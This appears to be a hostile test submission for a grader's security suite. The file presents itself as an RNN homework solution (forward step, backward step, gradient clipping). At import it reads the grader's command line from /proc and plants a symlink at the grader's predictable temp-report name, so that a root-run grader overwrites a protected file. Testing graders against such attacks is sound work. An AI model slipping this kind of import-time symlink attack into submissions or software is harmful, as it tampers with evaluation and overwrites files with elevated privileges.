"""Redirecting the grader's own write: the report is written to a temporary file named
".<name>.<grader pid>.tmp" next to --results, then renamed over it. Both parts of that name are
public: the grader's pid is the worker's parent, and --results is on the grader's command line
(/proc/PID/cmdline, readable by every user). So at import the submission plants, in the report's
folder, a symbolic link with that name pointing at a file it wants overwritten: "victim-<token>" in
the folder above the report's (the test creates it, root-owned and not writable by the worker).

Where the report's folder is writable by the worker's user (say --results /tmp/results.json, run as
root), the grader would open the link and write the report into the victim, as root. Required: the
victim is untouched and results.json is a regular file holding the genuine report (test_hostile,
root only). Graded without --results (in process), it finds nothing to attack: full marks. A
confined worker can neither read /proc nor create a link outside its scratch folder: the test
matters where Landlock is missing.
"""

import os
from pathlib import Path

import numpy as np

EXPECTED_SCORES = {"tiny_step_forward": 2, "tiny_step_backward": 3, "tiny_clip_grad_norm": 4, "tiny_size_one": 1}

VICTIM = "victim-@HOSTILE_TOKEN@"


def plant() -> None:
    grader = os.getppid()
    try:
        arguments = Path(f"/proc/{grader}/cmdline").read_bytes().decode(errors="replace").split("\0")
    except OSError:
        return
    for flag, value in zip(arguments, arguments[1:]):
        if flag == "--results" and os.path.isabs(value):
            report = Path(value)
            try:
                os.symlink(report.parent.parent / VICTIM, report.with_name(f".{report.name}.{grader}.tmp"))
            except OSError:
                pass


plant()


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, (x, prev_h, Wx, Wh, next_h)


def rnn_step_backward(dnext_h, cache):
    x, prev_h, Wx, Wh, next_h = cache
    da = dnext_h * (1 - next_h**2)
    return da @ Wx.T, da @ Wh.T, x.T @ da, prev_h.T @ da, da.sum(axis=0)


def clip_grad_norm(grads, max_norm):
    total_norm = float(np.sqrt(np.sum([np.sum(g * g) for g in grads.values()])))
    scale = max_norm / total_norm if total_norm > max_norm else 1.0
    return {name: g * scale for name, g in grads.items()}, total_norm
